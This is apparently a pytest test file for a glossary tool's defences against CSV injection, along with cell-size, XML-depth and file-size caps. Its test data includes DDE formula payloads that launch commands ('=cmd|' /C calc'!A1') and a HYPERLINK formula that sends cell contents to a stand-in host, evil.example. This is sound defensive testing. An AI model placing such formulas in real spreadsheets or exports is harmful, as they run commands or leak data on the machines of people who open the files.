"""CSV injection (OWASP): formula-like cells are neutralised on import/export and flagged by lint.

Also the glossary's other caps: an over-long cell, a deep or huge TBX file.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from toolkit.cli import main
from toolkit.core.limits import human_size
from toolkit.terminology.csvsafe import formula_like, neutralise

HEADER = "ko,en,category,note\n"


def run(args: list[str]) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, args)
    return result.exit_code, result.stdout, result.stderr


def cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    ("cell", "formula"),
    [
        ("=cmd|' /C calc'!A1", True),
        ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', True),
        ("+82 55 225 0000", True),
        ("@SUM(A1:A9)", True),
        ("@1+1", True),
        ("@foreign ~", False),  # the glossary's context-rule syntax
        ("@metro ~; ~ 주민; ~ 구청장", False),
        ("\t=1+1", True),
        ("\r=1", True),
        ("  =1+1", True),  # the reader strips the spaces, so it would be written as a formula
        ("-2+3+cmd|' /C calc'!A0", True),
        ("-cmd|' /C calc'!A0", True),
        ("-SUM(A1)", True),
        ("- 30 -", True),
        ("-끝-", False),
        ("- 끝 -", False),
        ("-End-", False),
        ("창원특례시", False),
        ("K9 Thunder", False),
        ("'=already neutralised", False),
        ("Price = 3", False),
        ("", False),
    ],
)
def test_formula_rule(cell: str, formula: bool) -> None:
    assert formula_like(cell) is formula
    assert neutralise(cell) == (("'" + cell.lstrip(" ")) if formula else cell)


def tbx(terms: list[tuple[str, str, str]]) -> str:
    entries = "".join(
        '<termEntry><descrip type="subjectField">term</descrip>'
        f'<langSet xml:lang="ko"><tig><term>{ko}</term>{f"<note>{note}</note>" if note else ""}</tig>'
        "</langSet>"
        f'<langSet xml:lang="en"><tig><term>{en}</term></tig></langSet></termEntry>'
        for ko, en, note in terms
    )
    return f'<?xml version="1.0"?><martif type="TBX-Basic"><text><body>{entries}</body></text></martif>'


def test_tbx_import_neutralises_formulas_and_lint_accepts_the_result(tmp_path: Path) -> None:
    glossary = tmp_path / "glossary.csv"
    glossary.write_text(HEADER + "창원특례시,Changwon Special City,place,\n", "utf-8")
    incoming = tmp_path / "from-cat.tbx"
    incoming.write_text(
        tbx(
            [
                ("=cmd|' /C calc'!A1", "Calculator", ""),
                (
                    "방위사업청",
                    "Defense Acquisition Program Administration",
                    '=HYPERLINK("http://evil.example")',
                ),
                ("-끝-", "-End-", ""),
            ]
        ),
        "utf-8",
    )
    code, _, err = run(["glossary", "import", str(incoming), "--glossary", str(glossary)])
    assert code == 0, err
    assert err.splitlines()[:2] == [
        f"Warning: {incoming}:1: ko '=cmd|' /C calc'!A1' would run as a formula in Excel; imported as"
        " ''=cmd|' /C calc'!A1' — check the term in the file it came from",
        f"Warning: {incoming}:1: note '=HYPERLINK(\"http://evil.example\")' would run as a formula in Excel;"
        " imported as ''=HYPERLINK(\"http://evil.example\")' — check the term in the file it came from",
    ]
    rows = cells(glossary)
    assert rows[2:] == [
        ["'=cmd|' /C calc'!A1", "Calculator", "term", ""],
        [
            "방위사업청",
            "Defense Acquisition Program Administration",
            "term",
            '\'=HYPERLINK("http://evil.example")',
        ],
        ["-끝-", "-End-", "term", ""],
    ]
    assert not any(formula_like(cell) for row in rows for cell in row)
    code, _, err = run(["glossary", "lint", str(glossary)])
    assert code == 0, err


def test_csv_import_neutralises_too(tmp_path: Path) -> None:
    glossary = tmp_path / "glossary.csv"
    glossary.write_text(HEADER + "창원특례시,Changwon Special City,place,\n", "utf-8")
    other = tmp_path / "other.csv"
    other.write_text(HEADER + "진해,Jinhae,place,\"@SUM(1+1)*cmd|' /C calc'!A0\"\n", "utf-8")
    code, _, err = run(["glossary", "import", str(other), "--glossary", str(glossary)])
    assert code == 0, err
    assert cells(glossary)[2] == ["진해", "Jinhae", "place", "'@SUM(1+1)*cmd|' /C calc'!A0"]


def test_lint_flags_formula_cells_as_errors(tmp_path: Path) -> None:
    glossary = tmp_path / "glossary.csv"
    glossary.write_text(
        HEADER
        + "창원특례시,Changwon Special City,place,\n"
        + "\"=cmd|' /C calc'!A1\",Calc,term,\n"
        + "-끝-,-End-,term,+82 55 225 0000\n",
        "utf-8",
    )
    code, _, err = run(["glossary", "lint", str(glossary)])
    assert code == 1
    assert err.splitlines() == [
        f"Error: {glossary}:3: ko cell '=cmd|' /C calc'!A1' would run as a formula in Excel (CSV injection)"
        " — put an apostrophe (') in front of it so spreadsheets show it as text",
        f"Error: {glossary}:4: note cell '+82 55 225 0000' would run as a formula in Excel (CSV injection)"
        " — put an apostrophe (') in front of it so spreadsheets show it as text",
        f"2 error(s), 0 warning(s) in {glossary}",
    ]


def test_tbx_export_never_writes_a_formula(tmp_path: Path) -> None:
    glossary = tmp_path / "glossary.csv"
    glossary.write_text(HEADER + "-끝-,-End-,term,\n창원특례시,Changwon Special City,place,'=x\n", "utf-8")
    code, out, err = run(["glossary", "export", "--glossary", str(glossary)])
    assert code == 0, err
    assert "<term>-끝-</term>" in out and "<note>'=x</note>" in out


def test_an_over_long_cell_gets_the_right_hint(tmp_path: Path) -> None:
    glossary = tmp_path / "glossary.csv"
    glossary.write_text(HEADER + '창원,Changwon,place,"' + "x" * 10_000_000 + '"\n', "utf-8")
    code, _, err = run(["glossary", "lint", str(glossary)])
    assert code == 1
    assert err.splitlines()[0] == (
        f"Error: {glossary}:2: a cell of the row starting on line 2 exceeds the 131,072 characters limit"
        " (csv_cell_chars) — glossary cells hold one term or a short note: shorten the cell"
    )
    glossary.write_text(
        HEADER + '창원,Changwon,place,"unclosed note\n' + "진해,Jinhae,place,\n" * 20_000, "utf-8"
    )
    code, _, err = run(["glossary", "lint", str(glossary)])
    assert code == 1
    assert err.splitlines()[0] == (
        f"Error: {glossary}:2: a cell of the row starting on line 2 exceeds the 131,072 characters limit"
        " (csv_cell_chars) — a quote opened on line 2 is never closed: close it (or remove it)"
    )


def test_deep_tbx_is_refused(tmp_path: Path) -> None:
    glossary = tmp_path / "glossary.csv"
    glossary.write_text(HEADER + "창원,Changwon,place,\n", "utf-8")
    deep = tmp_path / "deep.tbx"
    deep.write_text('<?xml version="1.0"?>\n<martif>\n' + "<x>" * 50_000 + "</x>" * 50_000 + "</martif>\n")
    code, _, err = run(["glossary", "import", str(deep), "--glossary", str(glossary)])
    assert code == 1
    assert err == (
        f"Error: {deep}:3: the TBX file is nested deeper than the 100-level limit (xml_depth) — check the"
        " file is the one you meant; if it is genuine, raise the cap with PRESSPACK_LIMIT_XML_DEPTH=N\n"
    )


def test_huge_tbx_is_refused_before_reading(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PRESSPACK_LIMIT_GLOSSARY_BYTES", "1000")
    glossary = tmp_path / "glossary.csv"
    glossary.write_text(HEADER + "창원,Changwon,place,\n", "utf-8")
    big = tmp_path / "big.tbx"
    big.write_text(tbx([("창원", "Changwon", "x" * 2000)]))
    code, _, err = run(["glossary", "import", str(big), "--glossary", str(glossary)])
    assert code == 1
    size = human_size(big.stat().st_size)
    assert err == (
        f"Error: {big}: the file ({size}) exceeds the 1000 bytes limit (glossary_bytes) — check the file is"
        " the one you meant; if it is genuine, raise the cap with PRESSPACK_LIMIT_GLOSSARY_BYTES=N\n"
    )
